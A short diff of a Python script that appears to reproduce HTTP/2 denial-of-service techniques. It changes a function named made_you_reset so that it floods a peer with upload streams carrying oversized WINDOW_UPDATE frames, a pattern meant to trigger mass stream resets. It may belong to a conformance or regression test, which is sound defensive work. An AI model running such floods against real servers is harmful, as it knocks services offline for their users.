@@ -250,8 +250,7 @@ def rapid_reset(peer):
 
 
 def made_you_reset(peer):
-    wrong = struct.pack(">I", 0)
-    peer.send(b"".join(request(stream) + frame(WINDOW_UPDATE, 0, stream, wrong) for stream in range(1, 4001, 2)))
+    peer.send(b"".join(upload(stream) + window_update(stream, 0x7FFFFFFF) for stream in range(1, 4001, 2)))
 
 
 def window_update(stream, amount):
